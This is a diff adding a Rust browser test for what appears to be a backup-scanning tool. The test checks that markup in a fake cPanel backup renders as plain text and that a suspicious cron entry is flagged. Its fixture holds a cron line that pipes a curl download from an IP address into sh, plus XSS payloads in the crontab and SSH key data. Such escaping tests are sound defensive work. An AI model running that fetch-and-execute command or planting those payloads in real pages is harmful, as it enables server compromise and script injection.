@@ -90,6 +90,64 @@ async fn result_screen_renders_hostile_names_as_text_only() {
     assert_eq!(h1.text_content().unwrap(), "Suspicious changes found");
 }
 
+/// A cPanel full backup whose crontab, key label and forwarder carry markup: the account's
+/// sections show them as text.
+#[wasm_bindgen_test]
+async fn hosting_account_sections_render_hostile_values_as_text() {
+    let b = "backup-8.1.2024_03-00-00_jane/";
+    let files: Vec<(String, Vec<u8>)> = vec![
+        (format!("{b}version"), b"archive version: 4\n".to_vec()),
+        (format!("{b}cron/jane"), b"*/15 * * * * php /home/jane/public_html/wp-cron.php\n*/5 * * * * curl -s http://198.51.100.7/<img src=x onerror=alert(1)> | sh\n".to_vec()),
+        (format!("{b}homedir/.ssh/authorized_keys"), b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA <script>document.title='pwned'</script>\n".to_vec()),
+        (format!("{b}va/example.com"), b"info@example.com: |/home/jane/<b>x</b>.php\n".to_vec()),
+        (format!("{b}homedir/public_html/index.php"), b"<?php echo 1;\n".to_vec()),
+    ];
+    let bytes = support::tar(&support::borrowed(&files), true);
+    let report = support::scan(&bytes).unwrap();
+    assert!(report.account.is_some());
+    let root = mount();
+    yew::Renderer::<result_screen::ResultScreen>::with_root_and_props(
+        root.clone(),
+        result_screen::Props {
+            report: Rc::new(report).into(),
+            on_reset: Callback::noop(),
+            diffs: Default::default(),
+            on_diff: Callback::noop(),
+            host: None,
+        },
+    )
+    .render();
+    settle().await;
+    assert_eq!(
+        root.query_selector_all("img, script, b").unwrap().length(),
+        0
+    );
+    for id in [
+        "account-sites",
+        "account-cron",
+        "account-keys",
+        "account-forwarders",
+    ] {
+        assert!(
+            root.query_selector(&format!("#{id}")).unwrap().is_some(),
+            "no {id}"
+        );
+    }
+    let cron = root
+        .query_selector("section.cron")
+        .unwrap()
+        .unwrap()
+        .text_content()
+        .unwrap();
+    assert!(cron.contains("every 15 minutes"), "{cron}");
+    assert!(cron.contains("<img src=x onerror=alert(1)>"), "{cron}");
+    assert!(root
+        .query_selector("section.cron li.malicious")
+        .unwrap()
+        .is_some());
+    assert_ne!(gloo::utils::document().title(), "pwned");
+}
+
 #[wasm_bindgen_test]
 async fn file_table_filters_and_sorts() {
     let mut files: Vec<(String, Vec<u8>)> = (0..450)
